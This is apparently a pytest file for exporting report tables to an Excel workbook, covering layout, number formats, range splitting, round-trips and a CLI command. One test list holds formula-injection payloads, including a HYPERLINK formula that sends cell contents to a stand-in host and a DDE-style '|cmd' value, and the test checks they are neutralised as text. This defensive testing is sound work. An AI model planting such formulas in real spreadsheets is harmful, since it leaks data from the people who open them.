"""The workbook of an edition's tables: each number as its page shows it, text as text, and readable by the intake."""

import io
import json
import re
import subprocess
import sys

import openpyxl
import pytest
from conftest import ROOT

from cxzy_lib.intake.workbook import read_file
from cxzy_lib.publish.annex import FILE, tables_of, workbook
from cxzy_lib.publish.annex_cells import columns_of
from cxzy_lib.publish.html import body_of

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"看")', "+1+1", "-2+3|cmd", "@SUM(A1)", "\x01甲"]
PAGE = (
    '<h1>满意率上升</h1><h2>票数</h2><p>有效票为基数。</p><div class="table-wrap"><table><caption>各组</caption><thead><tr>'
    '<th scope="col">组</th><th scope="col" class="num">有效</th><th scope="col" class="num">率</th></tr></thead><tbody>'
    '<tr><th>群众</th><td class="num">1,022</td><td class="num">92.1%(90.0–94.1%)</td></tr>'
    '<tr><th>党员</th><td class="num">—</td><td class="num">*</td></tr></tbody></table></div>'
    '<section class="method"><h2 id="method">口径</h2><ul><li>最低基数：5</li></ul></section>'
)


def opened(*pages, lang="zh"):
    content = workbook(list(pages), lang, [("单位", "甲校")], "活动")
    return openpyxl.load_workbook(io.BytesIO(content))


def test_a_sheet_says_what_its_table_is_and_holds_numbers():
    book = opened(("满意度", PAGE))
    assert book.sheetnames == ["封面", "目录", "说明", "表1"]
    sheet = book["表1"]
    assert [sheet.cell(row, 1).value for row in range(1, 5)] == [
        "各组",
        "来源：满意度 / 票数",
        "有效票为基数。",
        "* 人数过少、意见全同，或会使他人答案可推知，为保护填票人不公布。",
    ]
    assert [cell.value for cell in sheet[6]] == ["组", "有效", "率", "率：下限", "率：上限"]
    assert [(cell.value, cell.number_format) for cell in sheet[7]] == [
        ("群众", "General"),
        (1022, "#,##0"),
        (0.921, "0.0%"),
        (0.9, "0.0%"),
        (0.941, "0.0%"),
    ]
    assert [cell.value for cell in sheet[8]] == ["党员", "—", "*", None, None]
    assert sheet.freeze_panes == "B7"
    assert [cell.value for cell in book["目录"][2]] == ["表1", "满意度", "票数", "各组"]
    assert book["目录"]["A2"].hyperlink.location == "'表1'!A1"
    assert "最低基数：5" in [cell.value for cell in book["说明"]["A"]]


def test_text_that_begins_as_a_formula_is_text():
    cells = "".join(f"<tr><th>{words.replace(chr(34), '&quot;')}</th></tr>" for words in FORMULAS)
    book = opened(("页", f"<table><thead><tr><th>=1+1</th></tr></thead><tbody>{cells}</tbody></table>"))
    column = [row[0] for row in book["表1"].iter_rows(min_row=6)]
    assert [cell.value for cell in column] == ["=1+1", *FORMULAS[:4], "\N{REPLACEMENT CHARACTER}甲"]
    assert {cell.data_type for cell in column} == {"s"}
    assert [cell.quotePrefix for cell in column] == [True] * 5 + [False]


def shown(value, form):
    """Return a number as a page shows it: what a spreadsheet makes of it by its format."""
    if isinstance(value, str):
        return value
    sections = form.split(";")
    section = sections[0 if len(sections) == 1 or value > 0 else 2 if value == 0 else 1]
    before, core, after = re.fullmatch(r'(?:"([^"]*)")?([^"]*)(?:"([^"]*)")?', section).groups("")
    signed = core.lstrip("+-")
    sign = core[: len(core) - len(signed)]
    places = len(signed.rstrip("%").partition(".")[2])
    number = abs(value) if sign else value
    comma = "," if "," in signed else ""
    told = f"{100 * number:.{places}f}%" if signed.endswith("%") else f"{number:{comma}.{places}f}"
    return f"{before}{sign}{told}{after}"


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_every_cell_of_every_page_comes_back_through_the_intake(sample_edition, tmp_path, lang):
    folder = sample_edition[lang]
    pages = json.loads((folder / "manifest.json").read_text("utf-8"))["pages"]
    bodies = [(page["name"], body_of((folder / name).read_text("utf-8"))) for name, page in pages.items()]
    (tmp_path / FILE).write_bytes(workbook(bodies, lang, [], "x"))
    sheets = read_file(tmp_path / FILE).sheets[3:]
    tables = [table for name, body in bodies for table in tables_of(name, body)]
    assert len(sheets) == len(tables) > 40
    formats = openpyxl.load_workbook(tmp_path / FILE)
    for sheet, table in zip(sheets, tables, strict=True):
        forms = formats[sheet.name]
        for at, row in enumerate(table.rows, 7):
            cells = [shown(cell.value, cell.number_format) for cell in forms[at] if cell.value is not None]
            assert sorted(pieces(cells)) == sorted(pieces(row)), (sheet.name, row)
            assert all(
                cell.number_format != "General" for cell in forms[at] if isinstance(cell.value, int | float)
            )
            read = [value for value in sheet.row(at - 1) if value is not None]
            assert read == [cell.value for cell in forms[at] if cell.value is not None]


def pieces(texts):
    """Return texts without what only stands between the numbers of one: brackets, dashes, strokes."""
    joined = " ".join(texts).replace("%", "")
    return re.findall(r"[^\s()（）/]+", re.sub(r"(?<=\d)–(?=[\d+-])|(?<=\d) to (?=[\d+-])| – ", " ", joined))


def test_no_figure_of_a_page_stays_text_but_those_the_notes_name(sample_edition, tmp_path):
    folder = sample_edition["zh"]
    pages = json.loads((folder / "manifest.json").read_text("utf-8"))["pages"]
    bodies = [(page["name"], body_of((folder / name).read_text("utf-8"))) for name, page in pages.items()]
    book = openpyxl.load_workbook(io.BytesIO(workbook(bodies, "zh", [], "x")))
    heads = {cell.value for sheet in book.worksheets[3:] for cell in sheet[6]}
    assert {"满意：计数", "满意：占比", "应参加", "不了解", "指数（区间）：下限"} <= heads
    stays = r"<\d.*|↑.*|[\d,]+ / [\d,]+|[><]\d+%|.*\d{4}.*（\d+）"
    left = set()
    for sheet in book.worksheets[3:]:
        for column in sheet.iter_cols(min_row=6):
            told = [cell for cell in column[1:] if cell.alignment.horizontal == "right" and cell.value]
            texts = [cell.value for cell in told if isinstance(cell.value, str)]
            left |= {one for one in texts if re.search(r"\d", one) and not re.fullmatch(stays, one)}
    assert left == set()


@pytest.mark.parametrize(
    ("head", "texts", "heads", "cells"),
    [
        ("率", ["97.5 (97.0 – 97.9)", "—", "96.0"], ["率", "率：下限", "率：上限"],
         [[97.5, 97.0, 97.9], ["—", "", ""], [96.0, "", ""]]),
        ("界", ["89.7–94.4%", "*", "89.7%–94.4%"], ["界：下限", "界：上限"],
         [[0.897, 0.944], ["*", ""], [0.897, 0.944]]),
        ("票", ["96（94.1%）", "无数据"], ["票：计数", "票：占比"], [[96, 0.941], ["无数据", ""]]),
        ("差", ["+0.94（+0.37–+1.52）", "-3（代用）"], ["差", "差：下限", "差：上限"],
         [[0.94, 0.37, 1.52], [-3, "", ""]]),
        ("发出 / 有效", ["9 / —", "1,030 / 8"], ["发出", "有效"], [[9, "—"], [1030, 8]]),
        ("要求", ["≥ 100%（自定）", "≤ 14天"], ["要求"], [[1.0], [14]]),
        ("p", ["<0.001", "0.02"], ["p"], [["<0.001"], [0.02]]),
    ],
)  # fmt: skip
def test_a_column_of_one_shape_becomes_columns_of_numbers(head, texts, heads, cells):
    found = columns_of(head, texts, True, "zh")
    assert [name for name, _ in found] == heads
    assert [list(row) for row in zip(*([v for v, _ in column] for _, column in found), strict=True)] == cells
    for shown_row, words in zip(zip(*(column for _, column in found), strict=True), texts, strict=True):
        assert pieces([shown(*cell) for cell in shown_row]) == pieces([words])


@pytest.mark.parametrize("texts", [["2010", "2011"], ["2012-06-30"], ["2–4 分不清", "1"], ["D1.10", "D1.2"]])
def test_years_days_and_codes_stay_text(texts):
    assert columns_of("列", texts, False, "zh") == [("列", [(one, "") for one in texts])]


def test_the_command_writes_it_keeps_it_up_to_date_and_links_it(tmp_path):
    (tmp_path / "notebooks").mkdir()
    book = json.loads((ROOT / "notebooks" / "10_data_quality.ipynb").read_text("utf-8"))
    (tmp_path / "notebooks" / "10_data_quality.ipynb").write_text(json.dumps(book), "utf-8")
    for name in ("campaign", "data"):
        (tmp_path / name).mkdir() if name == "data" else (tmp_path / name).symlink_to(ROOT / name)
    (tmp_path / "data" / "raw").symlink_to(ROOT / "data" / "raw")

    def cxzy(*arguments):
        command = [sys.executable, "-m", "cxzy_lib.cli", *arguments, "--out", "out"]
        return subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, check=False)

    assert cxzy("report").returncode == 0
    out = tmp_path / "out"
    assert not (out / FILE).exists()
    assert FILE not in (out / "index.html").read_text("utf-8")
    assert "0 页新做，1 页未变" in cxzy("run", "--annex").stdout
    assert (out / FILE).stat().st_mode & 0o777 == 0o600
    assert f'href="{FILE}"' in (out / "index.html").read_text("utf-8")
    assert "已是最新" in cxzy("run", "--annex").stdout
    (out / FILE).write_bytes(b"old")
    assert "1 页新做" in cxzy("run", "--force").stdout
    assert openpyxl.load_workbook(out / FILE).sheetnames[:2] == ["封面", "目录"]
